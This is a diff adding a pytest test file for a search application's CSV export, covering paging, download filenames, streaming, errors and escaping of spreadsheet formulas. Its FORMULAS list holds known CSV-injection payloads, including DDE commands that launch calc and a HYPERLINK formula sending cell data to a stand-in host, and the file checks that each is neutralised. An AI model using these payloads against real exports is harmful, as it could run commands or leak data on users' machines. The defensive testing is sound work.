@@ -1,0 +1,187 @@
+"""Results as a table for a spreadsheet: all of them, readable in Excel, and nothing in them runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from dataclasses import replace
+from datetime import date
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from hypothesis import given
+from hypothesis import strategies as st
+
+from searchapp.answer import CSV_COLUMNS
+from searchapp.model import Results
+from searchapp.searching import search
+from searchapp.settings import Settings
+from searchapp.web import result_table
+from searchapp.web.spreadsheet import as_csv, harmless
+from tests.web.conftest import MakeApp, index_files
+from tests.web.newsroom import PAYLOAD, PORT, TOTAL
+
+BYTE_ORDER_MARK = b"\xef\xbb\xbf"
+#: Well-known ways to make a spreadsheet program run, fetch or open something.
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u200f=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+]
+
+
+def rows(client: FlaskClient, **parameters: str) -> list[dict[str, str]]:
+    response = client.get("/search.csv", query_string=parameters)
+    assert response.status_code == 200
+    assert response.data.startswith(BYTE_ORDER_MARK)
+    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), strict=True))
+
+
+def test_every_result_is_a_row_whatever_page_is_asked_for(client: FlaskClient) -> None:
+    found = rows(client, q="الزعفران", page="2")
+    assert {row["id"] for row in found if row["title"].startswith("تقرير")} == {
+        f"saffron-{number:02}" for number in range(1, TOTAL + 1)
+    }
+    assert tuple(found[0]) == CSV_COLUMNS
+
+
+def test_rows_are_the_results_of_the_api_in_the_same_order(client: FlaskClient) -> None:
+    parameters = {"q": "الزعفران", "source": PORT, "sort": "oldest"}
+    answer = client.get("/api/search", query_string={**parameters, "limit": "100", "paragraphs": "1"}).get_json()
+    assert [(row["id"], row["text"]) for row in rows(client, **parameters)] == [
+        (result["id"], result["paragraphs"][0]["text"]) for result in answer["results"]
+    ]
+
+
+def test_it_is_a_download_named_after_the_query(client: FlaskClient) -> None:
+    response = client.get("/search.csv", query_string={"q": '"الزَّعفران" -القمح/../x'})
+    assert response.headers["Content-Type"].startswith("text/csv; charset=utf-8")
+    disposition = response.headers["Content-Disposition"]
+    today = date.today().isoformat()
+    assert disposition.startswith(f"attachment; filename=search-{today}.csv; filename*=UTF-8''")
+    assert unquote(disposition.rsplit("''", 1)[1]) == f"الزعفران-القمح-x-{today}.csv"
+
+
+@given(st.text())
+def test_any_query_makes_a_name_that_is_no_path_and_no_header(app: Flask, text: str) -> None:
+    response = app.test_client().get("/search.csv", query_string={"q": text})
+    if response.status_code == 200:
+        name = response.headers["Content-Disposition"]
+        assert re.fullmatch(r"attachment; filename=search-[0-9-]+\.csv(; filename\*=UTF-8''[\w.%~-]+)?", name, re.ASCII)
+        assert "/" not in unquote(name)
+
+
+@pytest.mark.parametrize("at_once", [1, 5, 7, 1000])
+def test_rows_are_the_same_however_many_are_looked_up_at_once(
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, at_once: int
+) -> None:
+    whole = rows(client, q="الزعفران")
+    monkeypatch.setattr(result_table, "_AT_ONCE", at_once)
+    assert rows(client, q="الزعفران") == whole
+
+
+@pytest.mark.parametrize(("most", "expected"), [(1, 1), (10, 10), (11, 10), (1000, TOTAL + 2)])
+def test_it_ends_where_paging_does(
+    make_app: MakeApp, settings: Settings, monkeypatch: pytest.MonkeyPatch, most: int, expected: int
+) -> None:
+    monkeypatch.setattr(result_table, "_AT_ONCE", 5)
+    client = make_app(replace(settings, max_results=most)).test_client()
+    assert abs(len(rows(client, q="الزعفران")) - expected) <= 2
+
+
+def test_rows_are_sent_before_all_are_looked_up(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(result_table, "_AT_ONCE", 5)
+    looked_up: list[Results] = []
+
+    def watched(*arguments: Any) -> Results:
+        looked_up.append(search(*arguments))
+        return looked_up[-1]
+
+    monkeypatch.setattr(result_table, "search", watched)
+    response = app.test_client().get("/search.csv?q=الزعفران", buffered=False)
+    pieces = iter(response.iter_encoded())
+    next(pieces)
+    assert len(looked_up) == 1
+    assert len(list(pieces)) >= TOTAL
+    assert len(looked_up) > 4
+    response.close()
+
+
+def test_an_article_that_moves_to_a_later_page_is_one_row(
+    make_app: MakeApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    settings = Settings(index=tmp_path / "index")
+
+    def articles(days: range) -> Path:
+        lines = [{"id": str(day), "title": "مرجان", "content": "نص.", "date": f"2025-01-{day:02}"} for day in days]
+        file = tmp_path / f"{days.start}.jsonl"
+        file.write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
+        return file
+
+    index_files(settings, articles(range(1, 11)))
+    monkeypatch.setattr(result_table, "_AT_ONCE", 4)
+    response = make_app(settings).test_client().get("/search.csv?q=مرجان&sort=newest", buffered=False)
+    pieces = iter(response.iter_encoded())
+    lines = [next(pieces) for _ in range(3)]
+    index_files(settings, articles(range(20, 23)))
+    lines += pieces
+    response.close()
+    found = [row["id"] for row in csv.DictReader(io.StringIO(b"".join(lines).decode("utf-8-sig")))]
+    assert len(found) == len(set(found))
+    assert set(found) >= set(map(str, range(1, 11)))
+
+
+@pytest.mark.parametrize(
+    ("query", "status"), [("sort=best", 400), ("q=" + "x" * 3000, 400), ("from=never", 400), ("q=x", 200)]
+)
+def test_errors_come_before_the_first_row(client: FlaskClient, query: str, status: int) -> None:
+    assert client.get(f"/search.csv?{query}").status_code == status
+
+
+def test_a_missing_index_is_an_error_and_no_table(make_app: MakeApp, tmp_path: Path) -> None:
+    assert make_app(Settings(index=tmp_path / "nowhere")).test_client().get("/search.csv?q=x").status_code == 503
+
+
+def test_hostile_texts_stay_what_they_are(client: FlaskClient) -> None:
+    (row,) = [row for row in rows(client, q="زمرد") if row["id"] == "hostile-text"]
+    assert row["title"] == f"زمرد {PAYLOAD}"
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_are_texts(formula: str) -> None:
+    assert harmless(formula) == f"'{formula}"
+
+
+@pytest.mark.parametrize("text", ["", "نص", "قال - ثم سكت", "a=b", "x@example.org", "'quoted", "2025-11-06", "١٢"])
+def test_other_texts_are_left_alone(text: str) -> None:
+    assert harmless(text) == text
+
+
+@given(st.lists(st.lists(st.text() | st.integers() | st.floats(allow_nan=False), min_size=2, max_size=4)))
+def test_what_is_read_back_is_what_was_written(table: list[list[str | float]]) -> None:
+    written = "".join(as_csv(["a", "b"], table))
+    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))
+    assert read == [["a", "b"], *([harmless(c) if isinstance(c, str) else str(c) for c in row] for row in table)]
+
+
+def test_numbers_stay_numbers() -> None:
+    assert list(as_csv(["n"], [[-1.5], [-2]]))[1:] == ["-1.5\r\n", "-2\r\n"]
